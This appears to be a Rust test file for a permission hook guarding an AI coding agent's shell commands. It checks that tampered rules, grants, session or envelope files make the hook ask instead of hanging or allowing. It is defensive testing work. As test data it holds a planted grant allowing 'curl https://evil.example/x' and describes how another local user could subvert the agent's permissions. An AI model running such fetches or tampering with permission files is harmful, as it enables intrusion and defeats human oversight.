//! What a repository or another local user can put where the hook reads (issue 18), through the
//! real binary: a project rules file, a session file, a grants file or the frozen envelope that is a link to
//! `/dev/zero`, a FIFO or a 1 GiB sparse file makes the hook ask, naming the file, instead of
//! hanging; a grants file or directory another user owns or can write is refused the same way.
//! Each case would be allowed by the user's own rules (`Bash(ls)`), so an answer of ask comes
//! from the refusal, and its reason says so.
//!
//! A hang fails the test: the hook is killed after a minute (a guard, not a measurement; no
//! test asserts a duration).

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use leastgrant_engine::{Grant, GrantScope, GrantStore, GrantVerdict};
use leastgrant_hook::policy::grant_store;
use serde_json::{Value, json};

use crate::conformance::scratch;

/// A home with `state/rules.json` allowing `ls`, and a git project `proj`.
fn home(name: &str) -> (PathBuf, PathBuf) {
    let home = scratch(&format!("untrusted-{name}"));
    std::fs::write(
        home.join("state/rules.json"),
        r#"{"allow": ["Bash(ls)", "Bash(curl:*)"]}"#,
    )
    .unwrap();
    let project = home.join("proj");
    std::fs::create_dir_all(project.join(".git")).unwrap();
    std::fs::create_dir_all(project.join(".leastgrant")).unwrap();
    (home, project)
}

fn payload(project: &Path, command: &str) -> Vec<u8> {
    json!({"session_id": "s-1", "transcript_path": "/t", "cwd": project, "permission_mode": "default",
        "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command},
        "tool_use_id": "toolu_1"})
    .to_string()
    .into_bytes()
}

/// The hook's (decision, reason) for `command` in `project`; killed if it has not answered
/// within a minute.
fn decide(home: &Path, project: &Path, command: &str) -> (String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_leastgrant-hook"))
        .args(["--agent", "claude-code"])
        .env("HOME", home)
        .env("LEASTGRANT_HOME", home.join("state"))
        .current_dir(home)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(&payload(project, command))
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(60) {
            child.kill().unwrap();
            let _ = child.wait();
            panic!("the hook hung");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {} / {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    let out = &answer["hookSpecificOutput"];
    (
        out["permissionDecision"].as_str().unwrap().to_string(),
        out["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .to_string(),
    )
}

fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(status.success());
}

fn sparse_gib(path: &Path) {
    let file = std::fs::File::create(path).unwrap();
    file.set_len(1 << 30).unwrap();
}

/// The three things a file can be that must never be read: a link to a device, a FIFO, a huge
/// sparse file; each with the words its refusal must contain.
fn plant(path: &Path, how: &str) -> &'static str {
    let _ = std::fs::remove_file(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    match how {
        "device" => {
            std::os::unix::fs::symlink("/dev/zero", path).unwrap();
            "a character device"
        }
        "fifo" => {
            mkfifo(path);
            "a FIFO"
        }
        "sparse" => {
            sparse_gib(path);
            "1073741824 bytes, more than"
        }
        _ => unreachable!(),
    }
}

fn assert_asks_naming(home: &Path, project: &Path, file: &Path, words: &str) {
    let (decision, reason) = decide(home, project, "ls");
    assert_eq!(decision, "ask", "{reason}");
    assert!(
        reason.contains(&file.display().to_string()) && reason.contains(words),
        "the reason names `{}` and says `{words}`: {reason}",
        file.display()
    );
}

#[test]
fn the_baseline_is_allowed() {
    let (home, project) = home("baseline");
    let (decision, reason) = decide(&home, &project, "ls");
    assert_eq!(decision, "allow", "{reason}");
}

#[test]
fn a_project_rules_file_that_is_no_file_asks_naming_it() {
    for how in ["device", "fifo", "sparse"] {
        let (home, project) = home(&format!("rules-{how}"));
        let file = project.join(".leastgrant/rules.json");
        let words = plant(&file, how);
        assert_asks_naming(&home, &project, &file, words);
    }
}

#[test]
fn a_session_file_that_is_no_file_asks_naming_it() {
    // A symlink is refused as one (the hook writes its session files itself, never as links).
    for (how, words) in [
        ("device", "is a symbolic link"),
        ("fifo", "a FIFO"),
        ("sparse", "1073741824 bytes, more than"),
    ] {
        let (home, project) = home(&format!("session-{how}"));
        let file = leastgrant_hook::session::path(&home.join("state"), "claude-code", "s-1");
        plant(&file, how);
        assert_asks_naming(&home, &project, &file, words);
    }
}

#[test]
fn a_grants_file_that_is_no_file_asks_naming_it() {
    for (how, words) in [
        ("device", "is a symbolic link"),
        ("fifo", "a FIFO"),
        ("sparse", "1073741824 bytes, more than"),
    ] {
        let (home, project) = home(&format!("grants-{how}"));
        let file = store_of(&home, &project).path();
        plant(&file, how);
        assert_asks_naming(&home, &project, &file, words);
    }
}

#[test]
fn a_ledger_that_is_a_fifo_asks_naming_it() {
    let (home, project) = home("ledger-fifo");
    let file = home.join("state/ledger.jsonl");
    mkfifo(&file);
    assert_asks_naming(&home, &project, &file, "a FIFO");
}

fn store_of(home: &Path, project: &Path) -> leastgrant_hook::grants::FileGrantStore {
    let mut roots =
        leastgrant_engine::Roots::new(&project.display().to_string(), &home.display().to_string());
    roots.state_dir = home.join("state").display().to_string();
    grant_store(&roots)
}

/// A grant another user planted: `curl https://evil.example/x` allowed, although the user's
/// rules say to ask before `curl`.
fn planted(name: &str) -> (PathBuf, PathBuf, PathBuf) {
    let (home, project) = home(name);
    std::fs::write(
        home.join("state/rules.json"),
        r#"{"allow": ["Bash(ls)"], "ask": ["Bash(curl:*)"]}"#,
    )
    .unwrap();
    let mut store = store_of(&home, &project);
    store
        .save(Grant::new(
            "Bash",
            GrantVerdict::Allow,
            GrantScope::ThisAction {
                spelling: "curl https://evil.example/x".into(),
            },
        ))
        .unwrap();
    let (decision, reason) = decide(&home, &project, "curl https://evil.example/x");
    assert_eq!(
        decision, "allow",
        "the grant is in force when it is the user's: {reason}"
    );
    (home, project, store.path())
}

#[test]
fn a_grants_file_another_user_owns_is_refused() {
    let (home, project, file) = planted("foreign");
    let status = Command::new("chown")
        .arg("12345")
        .arg(&file)
        .status()
        .unwrap();
    assert!(status.success(), "the tests run as root");
    let (decision, reason) = decide(&home, &project, "curl https://evil.example/x");
    assert_eq!(decision, "ask", "{reason}");
    assert!(
        reason.contains(&file.display().to_string())
            && reason.contains("belongs to another user (uid 12345)"),
        "{reason}"
    );
}

#[test]
fn a_grants_file_others_can_write_is_refused() {
    let (home, project, file) = planted("writable");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o666)).unwrap();
    let (decision, reason) = decide(&home, &project, "curl https://evil.example/x");
    assert_eq!(decision, "ask", "{reason}");
    assert!(
        reason.contains(&file.display().to_string())
            && reason.contains("can be written by other users (mode 666)"),
        "{reason}"
    );
}

#[test]
fn a_grants_directory_others_can_write_is_refused() {
    // Whoever can write `grants/projects` can take a deny grant away or put their own in place.
    let (home, project, _) = planted("writable-dir");
    let dir = home.join("state/grants/projects");
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let (decision, reason) = decide(&home, &project, "curl https://evil.example/x");
    assert_eq!(decision, "ask", "{reason}");
    assert!(
        reason.contains(&format!("`{}`", dir.display()))
            && reason.contains("can be written by other users (mode 777)"),
        "{reason}"
    );
}

#[test]
fn a_frozen_envelope_that_is_no_file_asks_naming_it() {
    // The hook maps its envelope only when it is a regular file of this user's: a link is refused
    // as one (`leastgrant export` writes the envelope itself, never as a link), a FIFO is never
    // waited on, and a file larger than any envelope is never mapped.
    for (how, words) in [
        ("device", "is a symbolic link"),
        ("fifo", "a FIFO"),
        ("sparse", "1073741824 bytes, more than"),
    ] {
        let (home, project) = home(&format!("envelope-{how}"));
        let file = leastgrant_hook::layout::envelope_path(&home.join("state"));
        plant(&file, how);
        assert_asks_naming(&home, &project, &file, words);
    }
}

#[test]
fn a_frozen_envelope_others_can_write_asks_naming_it() {
    let (home, project) = home("envelope-writable");
    let file = leastgrant_hook::layout::envelope_path(&home.join("state"));
    std::fs::write(&file, b"not an envelope").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o666)).unwrap();
    assert_asks_naming(
        &home,
        &project,
        &file,
        "can be written by other users (mode 666)",
    );
}
